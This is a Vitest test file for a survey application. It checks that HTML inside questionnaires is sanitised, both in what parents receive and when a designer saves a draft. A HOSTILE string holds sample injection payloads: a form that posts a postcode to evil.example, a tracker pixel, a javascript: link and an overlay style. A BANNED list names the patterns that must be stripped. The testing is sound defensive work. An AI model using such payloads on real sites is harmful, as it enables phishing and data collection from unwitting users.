// HTML a questionnaire carries reaches parents and officers only as text, headings, lists, tables
// and plain links: no form, image from another site, style or frame, whoever wrote it.
import { afterEach, describe, expect, it } from 'vitest';
import type { SurveyDesign } from '../../server/designer-contracts.ts';
import { surveyFile } from '../support/sample-surveys.ts';
import { createTestApp, type TestApp, writeSurveysDir } from '../support/test-app.ts';
import { createSurvey, designerWorld, threeQuestions } from './designer-support.ts';

const HOSTILE =
  '<p>Please read.</p><form action="https://evil.example/collect"><input name="postcode"><button>Check</button></form><img src="https://tracker.example/p.gif"><a href="javascript:alert(1)">x</a><p style="position:fixed">Over</p>';
const BANNED = ['<form', '<input', '<img', 'tracker.example', 'javascript:', 'style='];

let t: TestApp | undefined;
afterEach(async () => t?.close());

describe('HTML in questionnaires', () => {
  it('is cleaned in the definition parents receive, even from a survey file', async () => {
    const json = {
      pages: [
        {
          name: 'p1',
          elements: [
            { type: 'html', name: 'intro', html: { default: HOSTILE, cy: HOSTILE } },
            { type: 'comment', name: 'working_well', title: 'What is working well?' },
          ],
        },
      ],
    };
    t = await createTestApp({ surveysDir: writeSurveysDir([surveyFile({ json })]) });
    const body = JSON.stringify(await (await t.request('/api/surveys/tiny')).json());
    for (const banned of BANNED) expect(body).not.toContain(banned);
    expect(body).toContain('<p>Please read.</p>');
  });

  it('is cleaned when a designer saves a draft', async () => {
    const w = await designerWorld();
    t = w.t;
    const json = threeQuestions();
    json.pages[0]?.elements.push({ type: 'html', name: 'note', html: HOSTILE } as never);
    expect((await createSurvey(w, 'cleaned', json)).status).toBe(201);
    const design = (await (
      await w.call('GET', '/api/surveys/cleaned/design')
    ).json()) as SurveyDesign;
    const saved = JSON.stringify(design.draft?.json);
    for (const banned of BANNED) expect(saved).not.toContain(banned);
    expect(saved).toContain('<p>Please read.</p>');
  });
});
